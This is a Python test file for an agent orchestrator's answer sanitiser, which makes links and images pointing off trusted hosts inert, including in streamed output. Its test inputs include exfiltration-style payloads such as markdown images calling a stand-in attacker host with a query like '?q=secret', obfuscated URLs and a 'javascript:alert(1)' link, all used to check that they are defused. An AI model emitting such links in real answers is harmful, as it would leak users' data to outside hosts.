"""Links and images in answers: off the trusted hosts they are made inert, and a
streamed answer gives the same text however its tokens were split."""

from __future__ import annotations

import itertools

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent_orchestrator.answer_links import MAX_HOLD, AnswerLinks, neutralise

TRUSTED = ["docs.test", "*.trusted.test"]


def streamed(text: str, cuts: list[int]) -> str:
    links = AnswerLinks(TRUSTED)
    points = [0, *sorted(set(cuts)), len(text)]
    return "".join(links.feed(text[a:b]) for a, b in itertools.pairwise(points)) + links.close()


@pytest.mark.parametrize(
    ("answer", "shown"),
    [
        ("See ![x](https://evil.example/?q=secret) now", "See (image: x) now"),
        ("![](https://evil.example/p.png)", "(image)"),
        ('A [report](https://evil.example/r?q=1 "t") here', "A report (evil.example) here"),
        ("<https://evil.example/x?q=1>", "(evil.example)"),
        ('<img src="https://evil.example/p.png" alt="logo">', "(image: logo)"),
        ("<IMG SRC='//evil.example/p.png'>", "(image)"),
        ('<img srcset="/a.png 1x, https://evil.example/b.png 2x">', "(image)"),
        ('<a href="https://evil.example/">here</a>', "(evil.example)here</a>"),
        ("[ref]: https://evil.example/x?q=1\n\n![logo][ref]", "ref: (evil.example)\n\n![logo][ref]"),
        ("[x](h&#116;tp://evil.example/a)", "x (evil.example)"),
        ("[x](javascript:alert(1))", "x (javascript:)"),
        ("[x](<https://evil.example/a b>)", "x (evil.example)"),
        ("[two\nlines](https://evil.example/)", "two\nlines (evil.example)"),
        ("[click ![a](https://evil.example/i)](https://docs.test/)", "[click (image: a)](https://docs.test/)"),
        # A rewrite holds no bracket, so what follows it cannot make it a link again.
        ("![a](https://evil1.example)(https://evil2.example)", "(image: a)(https://evil2.example)"),
    ],
)
def test_links_and_images_off_the_trusted_hosts_are_made_inert(answer: str, shown: str) -> None:
    assert neutralise(TRUSTED, answer) == shown


@pytest.mark.parametrize(
    "answer",
    [
        "Read ![chart](https://docs.test/c.png) and [the guide](http://www.trusted.test/g).",
        "[relative](/help) <https://docs.test/x> <b>bold</b> a < b > c",
        "Plain [brackets] and a! mark, 3 < 4.",
        "https://evil.example/bare shows its whole target",
    ],
)
def test_trusted_relative_and_plain_text_is_left_as_it_is(answer: str) -> None:
    assert neutralise(TRUSTED, answer) == answer


ADVERSARIAL = (
    'Intro [a [b] c](https://evil.example/x "t") mid ![i](https://docs.test/i.png)\n'
    '<img alt="x" src="https://evil.example/p"> <https://evil.example/q> [r]: https://evil.example/d\n'
    "a < b, [not a link] and ![half](https://evil.example/unterminated"
)


def test_every_single_split_gives_the_whole_text_s_output() -> None:
    whole = neutralise(TRUSTED, ADVERSARIAL)
    assert "evil.example/" not in whole.replace("(https://evil.example/unterminated", "")
    for cut in range(len(ADVERSARIAL) + 1):
        assert streamed(ADVERSARIAL, [cut]) == whole, cut


def test_every_pair_of_splits_around_an_image_gives_the_whole_text_s_output() -> None:
    text = "ok ![x](https://evil.example/?q=1) ok"
    whole = neutralise(TRUSTED, text)
    for a in range(len(text)):
        for b in range(a, len(text)):
            assert streamed(text, [a, b]) == whole


@given(st.lists(st.integers(min_value=0, max_value=len(ADVERSARIAL)), max_size=30))
def test_any_split_gives_the_whole_text_s_output(cuts: list[int]) -> None:
    assert streamed(ADVERSARIAL, cuts) == neutralise(TRUSTED, ADVERSARIAL)


@given(st.text(alphabet="![]()<>:/ \nab.\"'=", max_size=60), st.lists(st.integers(0, 60), max_size=8))
def test_any_text_split_anywhere_gives_the_whole_text_s_output(text: str, cuts: list[int]) -> None:
    assert streamed(text, [c for c in cuts if c <= len(text)]) == neutralise(TRUSTED, text)


def test_only_what_may_start_a_link_is_held_back() -> None:
    links = AnswerLinks(TRUSTED)
    assert links.feed("Hello there, see ") == "Hello there, see "
    assert links.feed("![x](https://evil.exa") == ""  # undecided
    assert links.feed("mple/?q=1) and more") == "(image: x) and more"


def test_a_construct_longer_than_the_hold_is_not_waited_for() -> None:
    links = AnswerLinks(TRUSTED)
    out = links.feed("![x](https://evil.example/?q=" + "a" * MAX_HOLD)
    assert out.startswith("!\\[x](https://evil.example/")  # escaped: it can no longer open an image
    assert "![" not in out + links.close()
